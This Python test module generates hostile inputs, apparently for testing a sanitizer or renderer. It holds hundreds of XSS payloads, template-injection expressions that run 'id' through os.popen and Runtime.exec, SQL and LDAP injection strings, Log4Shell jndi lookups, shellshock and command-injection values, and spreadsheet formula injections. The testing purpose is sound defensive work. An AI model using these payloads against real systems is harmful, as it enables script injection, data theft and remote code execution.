"""Hostile inputs put together from parts: each kind is a few carriers times a few ways to dress them up.

As in `tests.hostile.payloads`, `{n}` becomes the input's number and braces that are none are doubled.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from itertools import product

from tests.hostile.families import FAMILIES


def _braced(text: str) -> str:
    """`text` for `str.format`, in which `@n` stands for the number."""
    return text.replace("{", "{{").replace("}", "}}").replace("@n", "{n}")


def _spread(texts: Iterable[str], number: int) -> tuple[str, ...]:
    """`number` of the texts, evenly out of all of them."""
    every = list(dict.fromkeys(texts))
    return tuple(_braced(every[at * len(every) // number]) for at in range(min(number, len(every))))


_TAGS = (
    *("img src=x", "svg", "video src=x", "audio src=x", "body", "details open", "input autofocus", "select autofocus"),
    *("textarea autofocus", "iframe", "object data=x", "marquee", "a href=x", "math", "button popovertarget=x"),
    *("x-y tabindex=1", "div contenteditable", "form", "link rel=stylesheet href=x", "dialog open", "meter", "table"),
)
_EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onstart", "onmouseover", "onclick", "onanimationstart", "onbegin"),
    *("onpointerrawupdate", "onbeforematch", "onscrollend", "ontransitionend", "onwheel", "oncanplay", "onformdata"),
)
_BETWEEN = (" ", "/", "\x0c", " \t", "/ /", " x='>' ", ' x=">" ', " x=1/")
_CALLS = (
    "alert(@n)",
    "'alert(@n)'",
    '"alert(@n)"',
    "`alert(@n)`",
    "alert`@n`",
    "confirm&lpar;@n)",
    "top['al'+'ert'](@n)",
)


def _handlers() -> Iterable[str]:
    for number, (tag, event) in enumerate(product(_TAGS, _EVENTS)):
        between, call = _BETWEEN[number % len(_BETWEEN)], _CALLS[number % len(_CALLS)]
        yield f"<{tag}{between}{event}={call}>"


_BREAKS = (
    *('"', "'", "`", '">', "'>", "-->", "]]>", "*/", "</title>", "</textarea>", "</style>", "</script>", "</noscript>"),
    *("</template>", "</a>", "</svg>", "</math>", "${", "{{", "%}", "%>", "?>", "\\", "\\u0022", "&quot;", "&#34;>"),
)
_BEHIND = ("<script>alert(@n)</script>", "<img src=x onerror=alert(@n)>", " onmouseover=alert(@n) x=", ";alert(@n);//")


def _breakouts() -> Iterable[str]:
    for end, behind in product(_BREAKS, _BEHIND):
        yield end + behind


_MARKUP = ("<script>alert(@n)</script>", "<img src=x onerror=alert(@n)>", '"><svg onload=alert(@n)>')


def _each(write: Callable[[int], str]) -> Callable[[str], str]:
    def dress(text: str) -> str:
        return "".join(write(ord(mark)) if not mark.isalnum() and mark != "@" else mark for mark in text)

    return dress


_DRESSES: tuple[Callable[[str], str], ...] = (
    _each(lambda code: f"&#{code};"),
    _each(lambda code: f"&#{code:07d}"),
    _each(lambda code: f"&#x{code:x};"),
    _each(lambda code: f"&#X{code:04X}"),
    _each(lambda code: f"&amp;#{code};"),
    _each(lambda code: f"&#38;#{code};"),
    _each(lambda code: f"%{code:02x}"),
    _each(lambda code: f"%25{code:02X}"),
    _each(lambda code: f"%u{code:04x}"),
    _each(lambda code: f"\\u{code:04x}"),
    _each(lambda code: f"\\u{{{code:x}}}"),
    _each(lambda code: f"\\x{code:02x}"),
    _each(lambda code: f"\\{code:o}"),
    _each(lambda code: f"\\{code:06x} "),
    _each(lambda code: chr(code + 0xFEE0) if 0x20 < code < 0x7F else chr(code)),
    _each(lambda code: f"={code:02X}"),
    lambda text: text.replace("<", "&LT;").replace(">", "&GT;"),
    lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    lambda text: text.replace("<", "&nvlt;").replace("(", "&lpar;"),
    lambda text: text.replace("<", "<\x00").replace("al", "a\u00adl"),
    lambda text: text.replace("<", "\u2039").replace(">", "\u203a"),
    lambda text: text.replace("<", "\ufe64").replace(">", "\ufe65"),
    lambda text: text.replace("s", "\u017f").replace("k", "\u212a"),
    lambda text: text.upper().replace("@N", "@n"),
)


def _dressed() -> Iterable[str]:
    for dress, text in product(_DRESSES, _MARKUP):
        yield dress(text)


_SCHEMES = (
    *("javascript:alert(@n)", "JAVASCRIPT:alert(@n)", "java\tscript:alert(@n)", "\x01javascript:alert(@n)"),
    *(
        "javascript&#58;alert(@n)",
        "javascript&colon;alert(@n)",
        "&#x6A&#x61vascript:alert(@n)",
        "java&Tab;script:alert(@n)",
    ),
    *("java&NewLine;script:alert(@n)", "javascript://%0aalert(@n)", "javascript:/*--></title>*/alert(@n)"),
    *("\u00a0javascript:alert(@n)", "view-source:javascript:alert(@n)", "data:text/html,<script>alert(@n)</script>"),
    *(
        "data:text/html;charset=utf-7,+ADw-script+AD4-alert(@n)+ADw-/script+AD4-",
        "data:image/svg+xml,<svg onload=alert(@n)>",
    ),
    *("DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#@n", "vbscript:msgbox(@n)", "livescript:alert(@n)"),
    *(
        "blob:https://h@n.example/x",
        "filesystem:https://h@n.example/x",
        "jar:https://h@n.example!/x",
        "ftp://h@n.example/",
    ),
    *("//h@n.example/%2f..", "/\\h@n.example/x", "https:h@n.example", "https://a@h@n.example:443/", "http://[::1]/@n"),
)
_VESSELS = (
    *(
        "[a]({})",
        "[a](<{}>)",
        "![a]({})",
        "<{}>",
        "[a]({} 'x')",
        "[a][@n]\t[@n]: {}",
        '<a href="{}">x</a>',
        "<a href={}>x",
    ),
    *("<form action='{}'><input type=submit>", "<svg><a href='{}'><text>x</text></a></svg>", "<iframe src='{}'>", "{}"),
    *("<object data='{}'>", "<meta http-equiv=refresh content='0;url={}'>", "<base href='{}'>", "<area href='{}'>"),
)


def _addresses() -> Iterable[str]:
    for number, scheme in enumerate(_SCHEMES):
        for place in range(3):
            # Neighbours get different vessels, and no vessel gets every scheme.
            yield _VESSELS[(number * 5 + place * 7) % len(_VESSELS)].format(scheme)


_TEMPLATES = (
    *(
        "{{%s}}",
        "{{{%s}}}",
        "{%% if %s %%}x{%% endif %%}",
        "${%s}",
        "#{%s}",
        "*{%s}",
        "@{%s}",
        "<%%= %s %%>",
        "<%%- %s %%>",
    ),
    *(
        "<?= %s ?>",
        "<? %s ?>",
        "[[%s]]",
        "[(%s)]",
        "#set($x=%s)$x",
        "<#assign x=%s>${x}",
        "{php}%s{/php}",
        "{%s}",
        "@(%s)",
    ),
    *("{{= %s}}", "~{%s}", "$(%s)", "<!--#exec cmd=%s-->", "<!--#include file=%s-->", "{{#with %s}}x{{/with}}", "`%s`"),
)
_EXPRESSIONS = (
    *(
        "7*@n",
        "config.items()|@n",
        "self.__init__.__globals__['os'].popen('id @n')",
        "constructor.constructor('alert(@n)')()",
    ),
    *(
        "page.meta.title ~ @n",
        "include 'seeds/@n.txt'",
        "system('id @n')",
        "T(java.lang.Runtime).getRuntime().exec('@n')",
    ),
)


def _templates() -> Iterable[str]:
    for number, (template, expression) in enumerate(product(_TEMPLATES, _EXPRESSIONS)):
        if number % 2 == (number // len(_EXPRESSIONS)) % 2:
            yield template % expression


_OUTER = (
    "noscript",
    "title",
    "style",
    "xmp",
    "noembed",
    "noframes",
    "textarea",
    "iframe",
    "template",
    "plaintext",
    "select",
)
_INNER = (
    '<p title="</{}><img src=x onerror=alert(@n)>">',
    "<!--</{}><img src=x onerror=alert(@n)>-->",
    "<svg><style></{}><img src=x onerror=alert(@n)></style>",
    "<math><mi><![CDATA[</{}><img src=x onerror=alert(@n)>]]>",
)


def _mutations() -> Iterable[str]:
    for outer, inner in product(_OUTER, _INNER):
        yield f"<{outer}>{inner.format(outer)}</{outer}>"


_FOREIGN = tuple(
    f"<{root}>{inner}</{root}>"
    for root in ("svg", "math", "svg><desc", "math><annotation-xml encoding=text/html", "svg><title")
    for inner in (
        "<script>alert(@n)</script>",
        "<script href=data:,alert(@n) />",
        "<a xlink:href=javascript:alert(@n)>x</a>",
        "<image href=x onerror=alert(@n)>",
        "<animate attributeName=href values=javascript:alert(@n) begin=0s>",
        "<maction actiontype=statusline xlink:href=javascript:alert(@n)>x</maction>",
        "<mtext></p><style><a title='</style><img src=x onerror=alert(@n)>'>",
    )
)

_STYLES = tuple(
    vessel % rule
    for vessel in ("<style>%s</style>", '<p style="%s">x</p>', "<x style='%s'>", "</style><style>%s", "{style='%s'}")
    for rule in (
        "background:url(https://h@n.example/p.png)",
        "background:u\\72l(//h@n.example)",
        "@import url(//h@n.example/x.css);",
        "width:expression(alert(@n))",
        "-moz-binding:url(//h@n.example/x.xml#a)",
        "behavior:url(#default#time2)@n",
        "position:fixed;inset:0;z-index:@n",
        "a[href^=h]{background:url(//h@n.example/?h)}",
        "@font-face{font-family:x;src:url(//h@n.example/f)}",
        "animation:x;@n}@keyframes x{",
        "content:'\\3c script\\3e @n'",
    )
)

_POLYGLOTS = (
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(@n) )//%0D%0A//"
        "</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/<sVg/oNloAd=alert(@n)//>"
    ),
    "\"'--></style></script><svg oNload=alert(@n)//{{7*7}}${7*7}<%= 7 %>",
    "'\"`><img src=x onerror=alert(@n)>[x](javascript:alert(@n))`{{@n}}",
    "*/</script>'>\"><!--{{x}}--><svg/onload=alert(@n)>/*",
    "%27%22%3E%3Cscript%3Ealert(@n)%3C%2Fscript%3E\"'><script>alert(@n)</script>",
    "</p></div></article>]]>--%>?>'\"><b onmouseover=alert(@n)>**x** _y_ `z`",
    '=1+1;"><script>alert(@n)</script>\t--8<-- "x" {.c onclick=alert(@n)}',
    "---\ttitle: <b>@n</b>\t...\t{{ config }} <!-- /briefing --> </script>",
    "' OR 1=1 -- <img src=x onerror=alert(@n)> ${jndi:ldap://h@n.example/a} ../../x",
    '{"@type":"x","n":"</script><script>alert(@n)</script>"} &lt;b&gt; =cmd|x',
    "<![CDATA[<!--<x y='-->\"><svg onload=alert(@n)>']]>-->",
    "[x]: <javascript:alert(@n)> '\"><img src=x onerror=alert(@n)>'",
    "<a href='java&#115;cript:alert(@n)' title='](javascript:alert(@n))'>*x*</a>",
    '!["><script>alert(@n)</script>](x "onerror=alert(@n)")',
    "\u202e>)@n(trela=rorreno x=crs gmi<\u202c<img src=x onerror=alert(@n)>",
    "<!DOCTYPE x [<!ENTITY a '<script>alert(@n)</script>'>]>&a;{{a}}$a",
)

# Values that programs take for something else than text.
_TAKEN_FOR = (
    *("undefined @n", "null @n", "NaN@n", "-Infinity @n", "1e309@n", "0x@n", "1_000_@n", "00@n", "-0.0@n", "1/0 @n"),
    *(
        "true@n",
        "~@n",
        "<<: *x@n",
        "? x@n",
        "!!binary x@n",
        "!include x@n",
        "%YAML 1.2 @n",
        "&a [*a,*a] @n",
        "@@n",
        "|@n",
    ),
    *("[@n, @n]", '{"a":[@n]}', "[[@n]]", "#@n", "//@n", "/*@n*/", "/dev/null;@n", "COM1:@n", "C:\\CON\\@n", "aux.@n"),
    *("../@n/..", "....//....//@n", "~root/@n", "file:///@n", "%00@n.txt", "x%0d%0aX-Y: @n", "\\\\?\\@n", "$HOME/@n"),
    *("${jndi:ldap://h@n.example/a}", "() { :;}; touch x@n", "| touch x@n", "&& touch x@n", "$(touch x@n)", "%x%n%s@n"),
    *("'; DROP TABLE x@n;--", '" OR "@n"="@n', "admin'/*@n", "1;SELECT @n", "x' AND 1=CAST(@n AS INT)--", "*)(uid=@n"),
    *("=@n+1", "+@n", "-@n", "@SUM(@n)", "=IMPORTXML('//h@n.example')", "DDE('cmd';'@n')", "\uff1d1+@n", "|cmd@n!A1"),
    *("MATCH @n*", "near(@n)", "a:b@n", '"@n', "-@n OR", "type:@n", "(@n", "@n~", "^@n", "AND @n NOT"),
    *("__proto__[@n]", "toString@n", "hasOwnProperty@n", "constructor.name@n", "valueOf@n", "then@n", "__class__@n"),
)

_SHAPES = (
    *("\u202a@n\u202c", "\u202b@n\u202c", "\u202d@n\u202c", "\u2067@n\u2069", "\u2068@n\u2069", "x\u202e@n.txt\u202c"),
    *(
        "\u200b@n",
        "\u200c@n\u200c",
        "\u2060@n\u2060",
        "\u00ad@n\u00ad",
        "\u180e@n",
        "\u034f@n",
        "\ufe0f@n\ufe0e",
        "\u2063@n",
    ),
    *(
        "\u0438\u0301@n",
        "\u1112\u1161\u11ab@n",
        "\u0344@n",
        "\ufb1d@n",
        "\u03d2\u0301@n",
        "A\u030a\u0327@n",
        "\u0f77@n",
    ),
    *("H\u0336\u0337\u0338e\u0336l\u0338@n", "\u0e33\u0e33\u0e33@n", "\u0600@n\u0601", "\u06dd@n", "\U00011f02@n"),
    *(
        "\U0001f3f4\U000e0067\U000e0062@n",
        "\U0001f468\u200d\U0001f469\u200d\U0001f466@n",
        "1\ufe0f\u20e3@n",
        "\U0001f1fa@n",
    ),
    *("\uff1c\uff42\uff1e@n", "\u2028@n", "\u0085@n", "\x1c@n\x1d", "\x7f@n\x80", "\ufff9@n\ufffa\ufffb", "\ufffc@n"),
    *(
        "\U0001fffe@n",
        "\U0010ffff@n",
        "\U000f0000@n",
        "\ud800@n",
        "@n\udfff",
        "\U0001d4d0\U0001d4d1@n",
        "\u2460\u2461@n",
    ),
    *(
        "\u0131\u0130I\u0307@n",
        "\u1e9e\u00df@n",
        "\u0149@n",
        "\u01c6\u01c5@n",
        "\ufdfa@n",
        "\u3358@n",
        "\u337f@n",
        "\u33a7@n",
    ),
)

GENERATED: dict[str, tuple[str, ...]] = {
    "event handlers": _spread(_handlers(), 70),
    "breaking out": _spread(_breakouts(), 80),
    "dressed markup": _spread(_dressed(), 72),
    "addresses": _spread(_addresses(), 84),
    "templates": _spread(_templates(), 70),
    "mutation": _spread(_mutations(), 44),
    "foreign content": _spread(_FOREIGN, 35),
    "styles": _spread(_STYLES, 40),
    "polyglots": _spread(_POLYGLOTS, 16),
    "taken for something else": _spread(_TAKEN_FOR, 100),
    "unicode": _spread(_SHAPES, 60),
    **{name: _spread(texts, len(texts)) for name, texts in FAMILIES.items()},
}
"""Class to inputs; the names of classes that `payloads` has as well add to them."""
